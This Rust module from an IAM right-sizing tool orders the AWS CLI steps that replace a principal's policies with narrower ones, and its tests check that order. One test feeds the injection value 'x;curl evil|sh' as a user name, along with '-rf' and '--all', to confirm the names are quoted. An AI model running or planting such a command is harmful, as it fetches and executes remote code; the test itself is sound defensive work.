//! How a proposal is put in place: commands in their order, the new policies first, so that nothing stops in between.

use std::collections::BTreeSet;

use evenhand_model::catalog::Catalog;
use evenhand_model::id::IdentityId;
use evenhand_model::proposal::{ProposedFile, quoted};

use super::document::{Naming, length};
use super::fit::{ATTACHED, Fitted};
use super::kind::Changed;
use super::stays::{attached_policy, group_stays, inline_name};
use crate::catalog::Catalogue;
use crate::policy::document::Effect;
use crate::world::{PolicyIx, Principal, World};

/// The name of the inline policy that a proposal becomes, unless it narrows one.
const NAME: &str = "evenhand-right-sized";
/// So much of a principal's name is part of the names of its policies, which have 128 characters at most. Source:
/// <https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_iam-quotas.html>, "IAM name requirements".
const LONGEST: usize = 90;

/// The files of a proposal.
pub(super) struct Written<'f> {
    /// The file of the inline policy, with its length.
    pub(super) inline: Option<(&'f str, usize)>,
    managed: Vec<&'f str>,
    naming: Naming,
    left_alone: &'f BTreeSet<PolicyIx>,
}

impl<'f> Written<'f> {
    pub(super) fn of(
        fitted: &Fitted,
        inline: Option<&'f ProposedFile>,
        managed: &'f [ProposedFile],
        left_alone: &'f BTreeSet<PolicyIx>,
    ) -> Self {
        let size = fitted.inline.as_ref().map_or(0, length);
        Self {
            inline: inline.map(|file| (&*file.name, size)),
            managed: managed.iter().map(|file| &*file.name).collect(),
            naming: fitted.naming,
            left_alone,
        }
    }

    /// Whether a policy that is attached under this name stays.
    pub(super) fn stays(&self, world: &World, principal: &Principal, arn: &str) -> bool {
        attached_policy(world, principal, arn).is_some_and(|policy| self.left_alone.contains(&policy))
    }
}

/// A managed policy of a proposal.
pub(super) struct Managed<'f> {
    pub(super) name: String,
    arn: String,
    file: &'f str,
    /// Whether it is attached already, with the text of an earlier proposal.
    is_held: bool,
}

impl<'f> Managed<'f> {
    pub(super) fn of(world: &World, principal: &Principal, kind: Changed, written: &Written<'f>) -> Vec<Self> {
        let partition = principal.id.as_str().split(':').nth(1).unwrap_or("aws");
        let is_attached = |arn: &str| principal.attached.iter().any(|held| **held == *arn);
        // A user and a role of one name are two, and so are their policies.
        let names = (1_u32..).map(|number| {
            let name = format!("{}-{}-right-sized-{number}", kind.word(), policy_name(&principal.name));
            let arn = format!("arn:{partition}:iam::{}:policy/{name}", principal.account.0);
            (name, arn)
        });
        // One that stays keeps its name and its text, and so does one that somebody else has too: a new text would change
        // what that one may do. One that a permission set names keeps it as well: a new text is in force at once, and all
        // else of the set when it is provisioned.
        let stays =
            |arn: &str| is_attached(arn) && (kind == Changed::PermissionSet || written.stays(world, principal, arn));
        let free = names.filter(|(_, arn)| !stays(arn) && !others_have(world, principal, kind, arn));
        let each = written.managed.iter().zip(free).map(|(file, (name, arn))| {
            let is_held = is_attached(&arn);
            Self { name, arn, file: *file, is_held }
        });
        each.collect()
    }

    /// How its text comes to AWS, which keeps five versions of a policy. Source: `aws iam create-policy-version`. A policy
    /// of an earlier proposal may be detached and still there.
    pub(super) fn written(&self) -> Vec<String> {
        let (file, arn) = (quoted(self.file), quoted(&self.arn));
        let version = format!(
            "aws iam create-policy-version --policy-arn {arn} --policy-document file://{file} --set-as-default"
        );
        let oldest = format!(
            "delete the oldest: aws iam delete-policy-version --policy-arn {arn} --version-id \"$(aws iam \
             list-policy-versions --policy-arn {arn} --query {} --output text)\"",
            quoted("Versions[?!IsDefaultVersion].VersionId | [-1]")
        );
        match self.is_held {
            true => vec![format!("where it has five versions, which is all that AWS keeps, {oldest}"), version],
            false => vec![
                format!(
                    "where {arn} is there already, see that nobody has it (aws iam list-entities-for-policy --policy-arn \
                     {arn}), and where it has five versions, which is all that AWS keeps, {oldest}"
                ),
                format!(
                    "aws iam create-policy --policy-name={} --policy-document file://{file} || {version}",
                    quoted(&self.name)
                ),
            ],
        }
    }
}

/// Whether somebody else has a policy of this name attached. What has those of a permission set are the roles that are made
/// of it.
fn others_have(world: &World, principal: &Principal, kind: Changed, arn: &str) -> bool {
    let mut others = world.principals.values().filter(|other| other.id != principal.id);
    kind != Changed::PermissionSet && others.any(|other| other.attached.iter().any(|held| **held == *arn))
}

/// A name as a part of a policy's: what IAM lets a name hold. Source: "IAM name requirements" of the IAM User Guide.
fn policy_name(name: &str) -> String {
    let may = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '+' | '=' | ',' | '@');
    name.chars().take(LONGEST).map(|c| if may(c) { c } else { '-' }).collect()
}

/// What to do, and in which order.
pub(super) fn steps(world: &World, principal: &Principal, kind: Changed, written: &Written<'_>) -> Vec<String> {
    let unread = principal.missing.iter().map(|missing| {
        format!("look at `{missing}` before you take it away: it was not read, and what it denies goes with it")
    });
    let mut steps: Vec<String> = unread.collect();
    if written.naming == Naming::Wildcards {
        let date =
            Catalogue::global().sources().first().map_or_else(String::new, |source| format!(" of {}", source.date));
        steps.push(format!(
            "read the wildcards in the files: by name the actions do not fit in a few policies, so each stands for \
             actions of the catalogue{date} and no others, and grants what AWS adds under it later"
        ));
    }
    let stay = principal.attached.iter().filter(|arn| written.stays(world, principal, arn)).count();
    let attached = written.managed.len() + stay;
    if attached > ATTACHED.max(principal.attached.len()) {
        steps.push(more_attached(kind, attached));
    }
    match kind {
        Changed::User | Changed::Role | Changed::Group => {
            steps.extend(of_principal(world, principal, kind, written, attached));
        }
        Changed::PermissionSet => steps.extend(super::permission_set::steps(world, principal, written, attached)),
    }
    steps
}

/// How an account asks for more attached policies. Source of the codes: `aws service-quotas list-service-quotas --service-code
/// iam`, "Managed policies per role" and "per user"; IAM keeps its quotas in one region.
fn more_attached(kind: Changed, count: usize) -> String {
    let code = match kind {
        Changed::User => "L-4019AD8B",
        // A permission set is a role in each account.
        Changed::Role | Changed::PermissionSet | Changed::Group => "L-0DA4ABF3",
    };
    format!(
        "aws service-quotas request-service-quota-increase --region us-east-1 --service-code iam --quota-code {code} \
         --desired-value {count}  # {count} managed policies, where {ATTACHED} may be attached; wait until it is granted"
    )
}

/// An inline policy that goes.
struct Gone {
    name: String,
    characters: usize,
    /// Whether it denies something.
    denies: bool,
}

/// The inline policies of a principal itself.
struct Inline {
    /// Of those that are left alone.
    stay: Vec<String>,
    /// Of the others.
    go: Vec<Gone>,
    /// Characters of those that are left alone.
    characters: usize,
}

impl Inline {
    fn of(world: &World, principal: &Principal, written: &Written<'_>) -> Self {
        let groups = principal.groups.iter().filter_map(|group| world.principals.get(group));
        let of_groups: BTreeSet<_> = groups.flat_map(|group| &group.identity_policies).collect();
        let mut inline = Self { stay: Vec::new(), go: Vec::new(), characters: 0 };
        for policy in principal.identity_policies.iter().filter(|policy| !of_groups.contains(policy)) {
            let (label, characters) = (world.policies.label(*policy), world.policies.characters(*policy));
            let Some(name) = inline_name(&label) else { continue };
            if written.left_alone.contains(policy) {
                inline.stay.push(name.to_owned());
                inline.characters += characters;
            } else {
                inline.go.push(Gone { name: name.to_owned(), characters, denies: denies(world, *policy) });
            }
        }
        inline
    }

    /// The name of the policy that is written. Where it is but a narrower form of one, `narrows`, it takes its place.
    fn name(&self, narrows: bool) -> String {
        match self.go.as_slice() {
            [only] if narrows => only.name.clone(),
            _ => {
                let mut names = std::iter::once(NAME.to_owned()).chain((2_u32..).map(|at| format!("{NAME}-{at}")));
                names.find(|name| !self.stay.contains(name)).unwrap_or_default()
            }
        }
    }
}

/// `attached`: how many managed policies it has in the end.
fn of_principal(
    world: &World,
    principal: &Principal,
    kind: Changed,
    written: &Written<'_>,
    attached: usize,
) -> Vec<String> {
    let word = kind.word();
    // A name may begin with a dash, and is no option of its own so.
    let name = format!("--{word}-name={}", quoted(&principal.name));
    let mut steps = Vec::new();
    let leaves = |group: &&IdentityId| !group_stays(world, group, written.left_alone);
    let groups: Vec<&Principal> =
        principal.groups.iter().filter(leaves).filter_map(|group| world.principals.get(group)).collect();
    let goes = |held: &str| !written.stays(world, principal, held);
    let inline = Inline::of(world, principal, written);
    let narrows = groups.is_empty() && !principal.attached.iter().any(|held| goes(held));
    let own = inline.name(narrows);
    // The file of an inline policy takes the place of one that has its name.
    let (mut gone, replaced): (Vec<&Gone>, Vec<&Gone>) =
        inline.go.iter().partition(|held| written.inline.is_none() || held.name != own);
    gone.sort_by_key(|held| held.denies);
    let mut gone = gone.into_iter();
    let delete = |held: &Gone| format!("aws iam delete-{word}-policy {name} --policy-name={}", quoted(&held.name));
    let mut put = Vec::new();
    if let Some((file, size)) = written.inline {
        let step = format!(
            "aws iam put-{word}-policy {name} --policy-name={} --policy-document file://{}",
            quoted(&own),
            quoted(file)
        );
        // All count together until the old ones are gone.
        let mut characters =
            size + inline.characters + gone.as_slice().iter().map(|held| held.characters).sum::<usize>();
        while characters > kind.inline()
            && let Some(held) = gone.next()
        {
            let why = format!("inline policies hold {} characters together", kind.inline());
            put.push(first(&delete(held), &why, held.denies));
            characters -= held.characters;
        }
        put.push(step);
    }
    // What goes by it denies something that may stand in a managed policy by then.
    let is_last = replaced.iter().any(|held| held.denies) || put.iter().any(|step| step.ends_with(UNDENIED));
    if !is_last {
        steps.append(&mut put);
    }
    let managed = Managed::of(world, principal, kind, written);
    let is_again = |arn: &str| managed.iter().any(|policy| policy.is_held && *policy.arn == *arn);
    // Of one that was not read a step says so.
    let held_denies = |held: &str| attached_policy(world, principal, held).is_some_and(|policy| denies(world, policy));
    let detached = principal.attached.iter().filter(|held| goes(held) && !is_again(held));
    let mut detached: Vec<(bool, String)> = detached
        .map(|held| (held_denies(held), format!("aws iam detach-{word}-policy {name} --policy-arn {}", quoted(held))))
        .collect();
    detached.sort_by_key(|(denies, _)| *denies);
    let mut detached = detached.into_iter();
    let most = ATTACHED.max(attached).max(principal.attached.len());
    let mut free = most - principal.attached.len();
    for policy in &managed {
        steps.extend(policy.written());
        if policy.is_held {
            continue;
        }
        match free.checked_sub(1) {
            Some(left) => free = left,
            None => {
                let why = format!("{most} may be attached at a time");
                steps.extend(detached.next().map(|(denies, step)| first(&step, &why, denies)));
            }
        }
        steps.push(format!("aws iam attach-{word}-policy {name} --policy-arn {}", quoted(&policy.arn)));
    }
    steps.append(&mut put);
    for group in &groups {
        steps.push(format!("aws iam remove-user-from-group {name} --group-name={}", quoted(&group.name)));
    }
    steps.extend(detached.map(|(_, step)| step));
    steps.extend(gone.map(delete));
    steps
}

/// Whether a policy denies something.
fn denies(world: &World, policy: PolicyIx) -> bool {
    world.policies.document(policy).statements.iter().any(|statement| statement.effect == Effect::Deny)
}

/// What ends a step that makes room by a policy that denies.
const UNDENIED: &str =
    "; until all that is new is in place, what it denies is allowed wherever something else allows it";

/// A step that makes room for others.
pub(super) fn first(step: &str, why: &str, denies: bool) -> String {
    format!("{step}  # first: {why}{}", if denies { UNDENIED } else { "" })
}

/// That some of the steps take away denies before what is new has them, for people.
pub(super) fn undenied(steps: &[String]) -> Option<String> {
    steps.iter().any(|step| step.ends_with(UNDENIED)).then(|| {
        "there is no room for what is new beside what denies now, so in between it may do more than before: let its work \
         rest until the last step is done"
            .to_owned()
    })
}

#[cfg(test)]
mod tests {
    use evenhand_model::opset::OpSet;
    use evenhand_model::proposal::Proposal;

    use super::super::fixture::{
        ACCOUNT, GONE, at, attached, gone, inline, inlines, managed, names, proposed, steps_of,
    };
    use super::*;

    #[test]
    fn what_is_attached_itself_goes_whether_or_not_a_group_has_it_too() {
        let user = format!("{},{}", inline(NAME, "s3:ListAllMyBuckets"), attached(&names(&["Shared", "Own"])));
        let steps = steps_of(&user, &attached(&names(&["Shared", "OfGroup"])), "agent");
        let detached = |name: &str| {
            let step = format!(
                "aws iam detach-user-policy --user-name=agent --policy-arn arn:aws:iam::{ACCOUNT}:policy/{name}"
            );
            steps.contains(&step)
        };
        assert!(detached("Shared") && detached("Own") && !detached("OfGroup"), "{steps:#?}");
        let put = "aws iam put-user-policy --user-name=agent --policy-name=evenhand-right-sized";
        // What was not read is looked at before anything changes.
        let commands = steps.iter().skip_while(|step| step.starts_with("look at `")).collect::<Vec<_>>();
        assert!(commands.len() < steps.len() && commands[0].starts_with(put), "{steps:#?}");
        assert!(!commands.iter().any(|step| step.starts_with("look at `")), "{steps:#?}");
        assert!(!steps.iter().any(|step| step.contains("delete-user-policy")), "it is replaced: {steps:#?}");
    }

    #[test]
    fn policies_of_which_everything_may_stay_are_left_alone() {
        let policies = [managed("Read", &["ec2:Describe*", "sns:Get*"]), managed("Queues", &["sqs:*"])].join(",");
        let actions = ["dynamodb:Get*", "dynamodb:Query", "iam:PassRole"];
        let both = [("act", &actions[..]), ("models", &["bedrock:InvokeModel*"])];
        let user = format!("{},{}", inlines(&both), attached(&names(&["Read"])));
        let told = |user: &str, group: &str, gone: &str| {
            proposed(user, group, "agent", &policies, &Catalogue::global().all_of([gone])).unwrap()
        };
        // One statement loses one action: one policy is written anew, under its own name and with its own wildcards.
        let proposal = told(&user, &attached(&[]), "iam:PassRole");
        let put = "aws iam put-user-policy --user-name=agent --policy-name=act --policy-document \
                   file://user-agent.policy.json";
        assert_eq!(proposal.steps, [put]);
        let [file] = proposal.files.as_slice() else { panic!("{proposal:?}") };
        let written: serde_json::Value = serde_json::from_str(&file.text).unwrap();
        assert_eq!(written["Statement"][0]["Action"], serde_json::json!(["dynamodb:Get*", "dynamodb:Query"]));
        // One that is attached loses one: the others stay.
        let steps = told(&user, &attached(&[]), "sns:GetTopicAttributes").steps;
        let [put, detach] = steps.as_slice() else { panic!("{steps:#?}") };
        assert!(put.contains(" --policy-name=evenhand-right-sized ") && detach.ends_with(":policy/Read"), "{steps:#?}");
        // A group goes with all of its policies, what is attached besides stays.
        let group = attached(&names(&["Read", "Queues"]));
        let steps = told(&user, &group, GONE[0]).steps;
        let leave = "aws iam remove-user-from-group --user-name=agent --group-name=g";
        assert!(steps.iter().any(|step| step == leave), "{steps:#?}");
        assert!(!steps.iter().any(|step| step.contains("detach") || step.contains("delete")), "{steps:#?}");
        let steps = told(&user, &group, "iam:PassRole").steps;
        assert!(!steps.iter().any(|step| step.contains("group")), "{steps:#?}");
        assert_eq!(told(&user, &group, "ec2:RunInstances"), Proposal::default());
    }

    #[test]
    fn policies_of_one_name_under_two_paths_are_told_apart() {
        let at =
            |path: &str, actions: &[&str]| managed("x", actions).replace(":policy/x", &format!(":policy/{path}/x"));
        let policies = [at("a", &["ec2:Describe*"]), at("b", &["sns:Get*"])].join(",");
        let held = attached(&names(&["a/x", "b/x"]));
        let user = format!("{},{held}", inline("act", "sqs:ListQueues"));
        let proposal = |gone: &str| {
            proposed(&user, &attached(&[]), "agent", &policies, &Catalogue::global().all_of([gone])).unwrap()
        };
        let put = "aws iam put-user-policy --user-name=agent --policy-name=act";
        let steps = proposal(GONE[0]).steps;
        assert!(steps.len() == 1 && steps[0].starts_with(put), "{steps:#?}");
        let steps = proposal("sns:GetTopicAttributes").steps;
        let detached: Vec<&String> = steps.iter().filter(|step| step.contains("detach-user-policy")).collect();
        assert!(matches!(detached.as_slice(), [one] if one.ends_with(":policy/b/x")), "{steps:#?}");
    }

    #[test]
    fn managed_policies_of_an_earlier_proposal_are_written_anew_and_stay_attached() {
        let held = names(&["user-agent-right-sized-1", "user-agent-right-sized-99"]);
        let steps = steps_of(&format!("{},{}", inline("old", "ec2:*"), attached(&held)), &attached(&[]), "agent");
        let has = |step: &str| steps.iter().any(|held| held == step);
        let arn = |number: u32| format!("arn:aws:iam::{ACCOUNT}:policy/user-agent-right-sized-{number}");
        let version = format!(
            "aws iam create-policy-version --policy-arn {} --policy-document file://user-agent.policy-1.json \
             --set-as-default",
            arn(1)
        );
        let oldest = steps.iter().position(|step| step.starts_with("where it has five versions")).unwrap();
        assert_eq!(steps[oldest + 1], version, "{steps:#?}");
        assert!(has(&format!("aws iam attach-user-policy --user-name=agent --policy-arn {}", arn(2))), "{steps:#?}");
        assert!(has(&format!("aws iam detach-user-policy --user-name=agent --policy-arn {}", arn(99))), "{steps:#?}");
        assert!(!has(&format!("aws iam detach-user-policy --user-name=agent --policy-arn {}", arn(1))), "{steps:#?}");
        assert!(!steps.iter().any(|step| step.contains("create-policy --policy-name=user-agent-right-sized-1 ")));
        // One that was detached is written again where it still is.
        let made = &steps[at(&steps, "aws iam create-policy --policy-name=user-agent-right-sized-2 ")];
        let again = format!(" || aws iam create-policy-version --policy-arn {} ", arn(2));
        assert!(made.contains(&again), "{made}");
        let gone = "aws iam delete-user-policy --user-name=agent --policy-name=old";
        assert!(steps.iter().any(|step| step.starts_with(gone)), "{steps:#?}");
    }

    #[test]
    fn a_managed_policy_that_stays_keeps_its_name_to_itself() {
        let held = names(&["user-agent-right-sized-1"]);
        let policies = managed(&held[0], &["s3:GetObject"]);
        let user = format!("{},{}", inline("old", "ec2:*"), attached(&held));
        let steps = proposed(&user, &attached(&[]), "agent", &policies, &gone()).unwrap().steps;
        assert!(!steps.iter().any(|step| step.contains("right-sized-1")), "{steps:#?}");
        assert!(steps.iter().any(|step| step.contains("--policy-name=user-agent-right-sized-2 ")), "{steps:#?}");
    }

    #[test]
    fn a_managed_policy_that_somebody_else_has_keeps_its_text_and_one_that_is_there_is_looked_at_first() {
        let held = names(&["user-agent-right-sized-1"]);
        let user = format!("{},{}", inline("old", "ec2:*"), attached(&held));
        let steps = steps_of(&user, &attached(&held), "agent");
        let first = format!("arn:aws:iam::{ACCOUNT}:policy/user-agent-right-sized-1");
        let naming_it: Vec<&String> = steps.iter().filter(|step| step.split(' ').any(|word| word == first)).collect();
        assert_eq!(naming_it, [&format!("aws iam detach-user-policy --user-name=agent --policy-arn {first}")]);
        let made = at(&steps, "aws iam create-policy --policy-name=user-agent-right-sized-2 ");
        let before = &steps[made - 1];
        for part in
            ["right-sized-2 is there already", "list-entities-for-policy", "five versions", "delete-policy-version"]
        {
            assert!(before.contains(part), "{part}: {before}");
        }
    }

    #[test]
    fn where_all_places_are_taken_one_is_made_before_each_policy_that_needs_it() {
        let held: Vec<String> = (0..10).map(|number| format!("Old{number}")).collect();
        let steps = steps_of(&format!("{},{}", inline("old", "ec2:*"), attached(&held)), &attached(&[]), "agent");
        let mut now = 10_i32;
        for step in &steps {
            now += i32::from(step.contains("attach-user-policy --") && !step.contains("detach"));
            now -= i32::from(step.contains("detach-user-policy --"));
            assert!(now <= 10, "{step} in {steps:#?}");
        }
        assert!(steps.iter().any(|step| step.ends_with("# first: 10 may be attached at a time")), "{steps:#?}");
        assert_eq!(steps.iter().filter(|step| step.contains("detach-user-policy --")).count(), 10, "{steps:#?}");
    }

    #[test]
    fn an_inline_policy_for_which_there_is_no_room_beside_the_old_ones_comes_after_they_are_gone() {
        let padding = format!("sqs:{}", "x".repeat(1_700));
        for (padding, first) in [(&*padding, true), ("sqs:SendMessage", false)] {
            let two = [("a", &["s3:GetObject", GONE[0], padding][..]), ("b", &["s3:PutObject", GONE[0]])];
            let steps = steps_of(&format!("{},{}", inlines(&two), attached(&[])), &attached(&[]), "agent");
            let (put, gone) = (at(&steps, "aws iam put-user-policy"), at(&steps, "aws iam delete-user-policy"));
            assert_eq!(gone < put, first, "{steps:#?}");
        }
    }

    #[test]
    fn names_that_somebody_chose_are_words_of_a_command_and_no_options() {
        let name = "x;curl evil|sh";
        let user = format!("{},{}", inline("a b", "s3:GetObject"), attached(&[]));
        let steps = steps_of(&user, &attached(&[]), name);
        assert!(steps.iter().all(|step| step.contains("--user-name='x;curl evil|sh'")), "{steps:#?}");
        assert!(steps.iter().any(|step| step.contains(" --policy-name='a b' ")), "{steps:#?}");
        let user = format!("{},{}", inline("--all", "s3:GetObject"), attached(&[]));
        let steps = steps_of(&user, &attached(&[]), "-rf");
        assert!(steps.iter().all(|step| step.contains(" --user-name=-rf --policy-name=--all ")), "{steps:#?}");
        assert_eq!(policy_name("my_agent@acme"), "my_agent@acme");
        assert_eq!(policy_name("a b/c"), "a-b-c");
        assert_eq!(policy_name(&"x".repeat(128)).len(), LONGEST);
    }

    #[test]
    fn a_user_whose_policy_fits_nowhere_gets_none() {
        let mut list: Vec<String> = Vec::new();
        for operation in OpSet::all(Catalogue::global().len()).iter().filter(|at| at.0 % 2 == 0) {
            list.push(Catalogue::global().name(operation).to_string());
        }
        let actions: Vec<&str> = list.iter().map(String::as_str).collect();
        let user = format!("{},{}", inlines(&[("old", &actions)]), attached(&[]));
        let first = Catalogue::global().expand(&list[0]);
        let refused = proposed(&user, &attached(&[]), "agent", "", &first).unwrap_err();
        assert!(refused.reason.contains("does not fit") && refused.reason.contains("too many"), "{refused:?}");
        // Where nothing goes, nothing is written anew.
        let whole = proposed(&user, &attached(&[]), "agent", "", &OpSet::new()).unwrap();
        assert_eq!(whole, Proposal::default());
    }
}
